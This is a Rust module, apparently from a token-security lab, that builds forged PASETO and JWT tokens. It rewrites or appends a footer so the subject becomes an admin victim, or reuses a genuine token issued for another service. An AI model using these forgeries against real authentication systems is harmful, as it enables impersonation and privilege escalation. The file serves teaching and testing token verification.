//! The footer of a PASETO, trusted for more than the tag says.
//!
//! The flawed assumption: a PASETO authenticates its footer, so whatever stands
//! there is true. It does authenticate it (PASETO specification, Common, PAE),
//! where the library gets it and from then on: before that, or where the footer
//! is cut off first, it is what the sender wrote. And an authentic footer is
//! still one of another service's, if nobody compares it with the one that is
//! expected; NuGet Paseto.Core took an expected footer for version 2 and
//! ignored it until pull request 179 (July 2026).
//!
//! In compact JWTs there is no part that the signature does not cover, so a part
//! is appended, which none of the other families has a place for either. The
//! twin of the second mistake is a `typ` or `aud` that nobody compares.

use serde_json::{Map, Value};

use tokenlab_record::catalogue::AttackClass;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::{AttackerView, VICTIM};
use crate::card::AttackProfile;
use crate::given::Given;
use crate::mint;
use crate::notebook::Notebook;
use crate::scheme::{Purpose, Scheme};
use crate::weakness::Weakness;

pub(super) struct PasetoFooterTrust;

static PROFILE: AttackProfile = AttackProfile {
    id: "paseto-footer-trust",
    title: "Footer trusted for more than the tag says",
    assumption: "A PASETO authenticates its footer, so whatever stands there is true.",
    class: AttackClass::Native,
    given: &[Given::IssuerSigns(
        "A token of another service of the same issuer, where names are free and she took the victim's.",
    )],
    isolated: false,
    breaks: &[Weakness::FooterUnauthenticated, Weakness::FooterNotCompared],
    references: &[
        (
            "PASETO specification, Payload-Processing",
            "Before the token is verified only the key's name may be taken from the footer, and nothing trusted.",
        ),
        (
            "PASETO specification, Common, PAE",
            "Signature and tag cover header, message, footer and implicit assertion.",
        ),
        (
            "paseto-dotnet pull request 179",
            "NuGet Paseto.Core: Decrypt and Verify of version 2 ignored the expected footer; fixed in July 2026.",
        ),
        (
            "RFC 7515 §7.2.1",
            "JOSE's twin, in the JSON serialization: the unprotected header is not integrity-protected.",
        ),
    ],
    lesson: include_str!("../../lessons/paseto-footer-trust.md"),
};

impl Attack for PasetoFooterTrust {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        if !matches!(view.scheme(), Scheme::Paseto(..)) {
            return Err(CannotForge::Inexpressible {
                why: "there is no part beside the claims that all may read: what is outside the signature is no part of the token"
                    .into(),
                tried: vec![appended_part(view, notes)],
            });
        }
        let footer: Map<String, Value> = serde_json::from_str(&view.sample_footer()).unwrap_or_default();
        let mut forgeries = vec![rewritten(view, &footer, notes)];
        if footer.contains_key(SERVICE) {
            forgeries.push(of_another_service(view, footer, notes)?);
        }
        Ok(forgeries)
    }
}

/// Member of a footer that says for which service a token is.
const SERVICE: &str = "service";

/// Her own token with a footer in which the subject is admin.
fn rewritten(view: &AttackerView<'_>, footer: &Map<String, Value>, notes: &mut Notebook) -> Forgery {
    let mut footer = footer.clone();
    footer.insert("sub".into(), VICTIM.into());
    let footer = Value::Object(footer).to_string();
    let variant = "footer-rewritten";
    notes.variant_step(
        variant,
        "Writes a footer of her own, in which the subject is admin, and leaves everything before it as it was.",
        footer.as_str(),
    );
    let before = view.sample().splitn(4, '.').take(3).collect::<Vec<_>>().join(".");
    let forgery = Forgery::new(variant, format!("{before}.{}", mint::part(footer)));
    match view.scheme() {
        // What stands there is believed for what it says.
        Scheme::Paseto(_, Purpose::Local) => forgery,
        // The claims are there for all to read, and nobody needs the footer for
        // them: to be believed at all is too much for a token that was changed.
        _ => forgery.to_be_believed(),
    }
}

/// A token that the issuer did make for somebody of the victim's name, but
/// elsewhere, and its footer says so.
fn of_another_service(
    view: &AttackerView<'_>,
    mut footer: Map<String, Value>,
    notes: &mut Notebook,
) -> Result<Forgery, CannotForge> {
    footer.insert(SERVICE.into(), "forum".into());
    let mut draft = view.draft(view.wanted())?;
    draft.footer = Some(Value::Object(footer).to_string());
    let token = view.issued(&draft)?;
    let variant = "footer-of-another-service";
    notes.variant_step(
        variant,
        format!("Registers as {VICTIM} with the forum of the same issuer, where that name was free."),
        draft.footer.unwrap_or_default(),
    );
    Ok(Forgery::new(variant, token))
}

/// Where there is no footer: the same text as one part more.
fn appended_part(view: &AttackerView<'_>, notes: &mut Notebook) -> Forgery {
    let footer = format!(r#"{{"sub":"{VICTIM}"}}"#);
    let variant = "appended-part";
    notes.variant_step(
        variant,
        "Appends a part, in which the subject is admin, to her own token.",
        footer.as_str(),
    );
    Forgery::analogue(
        variant,
        format!("{}.{}", view.sample(), mint::part(footer)),
        "there is no footer, so the same text is appended as one part more",
    )
}
